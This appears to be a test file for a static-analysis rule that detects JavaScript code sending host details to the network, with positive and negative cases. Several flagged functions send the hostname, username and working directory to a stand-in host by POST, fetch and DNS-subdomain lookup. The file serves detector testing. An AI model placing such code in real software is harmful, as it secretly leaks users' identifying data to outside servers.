const os = require("node:os");
const https = require("node:https");
const dns = require("node:dns");

const ADDRESS = "https://count.example.invalid/hello";

function hello() {
  const details = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, cwd: process.cwd() });
  const request = https.request(ADDRESS, { method: "POST" });
  // ruleid: exfiltration/host-details-to-network-javascript
  request.write(details);
  request.end();
}

function helloAtOnce() {
  // ruleid: exfiltration/host-details-to-network-javascript
  return fetch(ADDRESS, { method: "POST", body: JSON.stringify({ user: os.userInfo().username }) });
}

function helloByName() {
  const user = os.userInfo().username;
  // ruleid: exfiltration/host-details-to-network-javascript
  dns.lookup(`${user}.count.example.invalid`, () => {});
}

function count() {
  // ok: exfiltration/host-details-to-network-javascript
  return fetch(ADDRESS, { method: "POST", body: JSON.stringify({ version: "1.2" }) });
}

function log() {
  const details = { user: os.userInfo().username };
  // ok: exfiltration/host-details-to-network-javascript
  console.log(details);
}

function register() {
  // ok: exfiltration/host-details-to-network-javascript
  return fetch(ADDRESS, { method: "POST", body: os.hostname() });
}

function shell() {
  // ok: exfiltration/host-details-to-network-javascript
  return os.userInfo().shell;
}

module.exports = { hello, helloAtOnce, helloByName, count, log, register, shell };
